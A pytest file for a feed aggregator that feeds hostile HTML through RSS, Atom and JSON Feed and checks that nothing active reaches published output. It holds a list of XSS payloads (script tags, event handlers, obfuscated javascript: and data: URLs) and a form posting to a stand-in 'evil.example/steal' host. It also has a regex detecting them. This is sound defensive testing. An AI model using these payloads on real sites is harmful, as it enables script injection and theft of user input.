"""Hostile HTML in titles and content, in RSS, Atom and JSON Feed, escaped or not: nothing
active reaches a published feed or the index page; ordinary formatting survives."""

from __future__ import annotations

import json
import re

import pytest
from feedserver import FeedServer, Route

from aggregator.cli import main
from aggregator.store import Store

ATTACKS = [
    "<script>alert('s1')</script>",
    "<style>body{background:url(javascript:alert('s2'))}</style>",
    "<img src=x onerror=\"alert('s3')\">",
    "<a href=\"javascript:alert('s4')\">j</a>",
    "<a href=\"JaVaScRiPt:alert('s5')\">j2</a>",
    "<a href=\"jav&#x09;ascript:alert('s6')\">j3</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnczcnKTwvc2NyaXB0Pg==">d</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KCdzOCcpPC9zY3JpcHQ+PC9zdmc+">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name="p"><button>go</button></form>',
    '<iframe src="https://evil.example/frame"></iframe>',
    "<svg><script>alert('s9')</script><circle onload=\"alert('s10')\"/></svg>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<div style=\"background:url(javascript:alert('s11'))\">styled</div>",
    "<math><mtext><script>alert('s12')</script></mtext></math>",
    "<!--<script>alert('s13')</script>-->",
]
GOOD_HTML = (
    "<p>فقرة <em>مائلة</em> و<strong>عريضة</strong></p><ul><li>واحد</li><li>اثنان</li></ul>"
    '<p><a href="https://x.example/article">رابط</a> '
    '<img src="https://x.example/p.jpg" alt="صورة"></p>'
)
CONTENT = GOOD_HTML + "".join(ATTACKS)
TITLE = "عنوان <script>alert('t1')</script><b onclick=\"alert('t2')\">عريض</b>"
# What must appear nowhere in what we publish (case-insensitive); the index page has its
# own <meta>, <link> and <style>, so those tags are only looked for in feeds.
FORBIDDEN = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|button|base|svg|math)\b"
    r"|\s(on[a-z]+|style|action|formaction)\s*=|javascript:|data:(text|image)|evil\.example",
    re.IGNORECASE,
)
URL_ATTRIBUTE = re.compile(r"""\b(?:href|src)\s*=\s*["']([^"']*)""", re.IGNORECASE)


def unsafe_url(text: str) -> str | None:
    """A link or image URL a browser would not read as http(s) or mailto (browsers drop
    tabs and newlines from URLs, so "jav&#x09;ascript:" is "javascript:")."""
    for match in URL_ATTRIBUTE.finditer(text):
        url = re.sub(r"[\x00-\x20]", "", match.group(1)).lower()
        if not url.startswith(("http://", "https://", "mailto:")):
            return match.group(0)
    return None


FORBIDDEN_IN_HTML = re.compile(r"<\s*(style|meta|link)\b", re.IGNORECASE)
# The served pages' own search form, exactly as publish writes it (GET to our /search).
OUR_SEARCH_FORM = re.compile(
    r'<form class="search" role="search" method="get" action="(?:\.\./)?search">'
    r'<input type="search" name="q" value="" dir="auto" maxlength="200" [^<>]*>'
    r'<button type="submit">[^<>]*</button></form>'
)


def _rss() -> bytes:
    escaped = CONTENT.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    title = TITLE.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>t</title>'
        "<link>https://x.example/</link><description>d</description>"
        f"<item><title>{title} 1</title><guid>rss-escaped</guid><link>https://x.example/1</link>"
        f"<description>{escaped}</description></item>"
        f"<item><title><![CDATA[{TITLE} 2]]></title><guid>rss-cdata</guid>"
        f"<link>https://x.example/2</link><content:encoded><![CDATA[{CONTENT}]]></content:encoded>"
        "</item></channel></rss>"
    ).encode()


def _atom() -> bytes:
    escaped = CONTENT.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    xhtml = GOOD_HTML.replace("<img", "<img").replace('alt="صورة">', 'alt="صورة"/>')
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>t</title><id>urn:x</id><updated>2026-11-28T10:00:00Z</updated>"
        '<entry><title type="html">'
        + TITLE.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        + ' 3</title><id>urn:atom-html</id><link href="https://x.example/3"/>'
        f'<updated>2026-11-28T10:00:00Z</updated><content type="html">{escaped}</content></entry>'
        '<entry><title>xhtml</title><id>urn:atom-xhtml</id><link href="https://x.example/4"/>'
        '<updated>2026-11-28T10:00:00Z</updated><content type="xhtml">'
        f'<div xmlns="http://www.w3.org/1999/xhtml">{xhtml}'
        "<script>alert('x1')</script><a href=\"javascript:alert('x2')\">x</a>"
        '<img src="x" onerror="alert(\'x3\')"/></div></content></entry></feed>'
    ).encode()


def _json() -> bytes:
    return json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "t",
            "items": [
                {
                    "id": "json-1",
                    "url": "https://x.example/5",
                    "title": TITLE + " 5",
                    "content_html": CONTENT,
                    "summary": "<script>alert('j1')</script>",
                },
                {"id": "json-2", "url": "javascript:alert('j2')", "content_text": "<b>t</b>"},
            ],
        }
    ).encode()


@pytest.fixture(scope="module")
def published(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[dict[str, bytes], dict[str, bytes]]:
    tmp_path = tmp_path_factory.mktemp("hostile-html")
    with FeedServer() as server:
        server.routes["/h.rss"] = Route(body=_rss())
        server.routes["/h.atom"] = Route(body=_atom(), content_type="application/atom+xml")
        server.routes["/h.json"] = Route(body=_json(), content_type="application/feed+json")
        lines = [
            "site: {title: 'منبر', base_url: 'http://feeds.example.org', language: ar}",
            "storage: {path: html.db}",
            "dedupe: {enabled: false}",  # every item has the same body on purpose
            "categories: {politics: {title: سياسة}}",
            "sources:",
        ]
        for path in ("/h.rss", "/h.atom", "/h.json"):
            lines.append(
                f"  - {{name: '{path}', url: '{server.url(path)}', categories: [politics]}}"
            )
        config = tmp_path / "feeds.yaml"
        config.write_text("\n".join(lines) + "\n", encoding="utf-8")
        assert main(["poll", "--config", str(config)]) == 0
    out = tmp_path / "public"
    assert main(["build", "--config", str(config), "--out", str(out)]) == 0
    built = {str(p.relative_to(out)): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    with Store(tmp_path / "html.db") as store:
        served = {o.path: o.body for o in store.outputs()}
        stored = store.db.execute(
            "SELECT title || summary_html || content_html FROM items"
        ).fetchall()
    served["(store)"] = "".join(row[0] for row in stored).encode()
    return built, served


def test_nothing_active_reaches_any_published_file(
    published: tuple[dict[str, bytes], dict[str, bytes]],
) -> None:
    built, served = published
    assert "index.html" in built and "feeds/all.rss" in built
    for name, body in [*built.items(), *served.items()]:
        text = body.decode("utf-8")
        if name.endswith(".html") and name.startswith("/"):  # served: our one search form
            text, forms = OUR_SEARCH_FORM.subn("", text)
            assert forms == 1, name
        # Published feeds carry the HTML escaped once (RSS/Atom) or as a JSON string:
        # unescape so a "&lt;script" in a feed counts as the <script> a reader would see.
        if not name.endswith((".html", "(store)")):  # in HTML, escaped text is only text
            text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
            text = text.replace("&quot;", '"').replace("\\u003c", "<").replace('\\"', '"')
        bad = FORBIDDEN.search(text)
        if bad is None and name.endswith((".json", "(store)")):  # HTML only in strings there
            bad = FORBIDDEN_IN_HTML.search(text)
        assert bad is None, f"{name}: ...{text[max(0, bad.start() - 80) : bad.end() + 80]}..."
        if name.endswith((".rss", ".atom", ".json", "(store)")):
            assert unsafe_url(text) is None, (name, unsafe_url(text))


def test_ordinary_formatting_survives(
    published: tuple[dict[str, bytes], dict[str, bytes]],
) -> None:
    _, served = published
    feed = json.loads(served["/feeds/all.json"])
    contents = [item.get("content_html", "") for item in feed["items"]]
    with_html = [c for c in contents if "<p>" in c]
    assert len(with_html) >= 4  # rss escaped, rss cdata, atom html, atom xhtml, json
    for content in with_html:
        for piece in ("<em>مائلة</em>", "<strong>عريضة</strong>", "<li>واحد</li>", "صورة"):
            assert piece in content, (piece, content[:300])
        assert 'href="https://x.example/article"' in content
        assert 'src="https://x.example/p.jpg"' in content


def test_titles_are_plain_text(published: tuple[dict[str, bytes], dict[str, bytes]]) -> None:
    _, served = published
    feed = json.loads(served["/feeds/all.json"])
    titles = {item.get("title", "") for item in feed["items"]}
    assert {"عنوان عريض 1", "عنوان عريض 2", "عنوان عريض 3", "عنوان عريض 5"} <= titles
    assert not any("<" in title for title in titles)
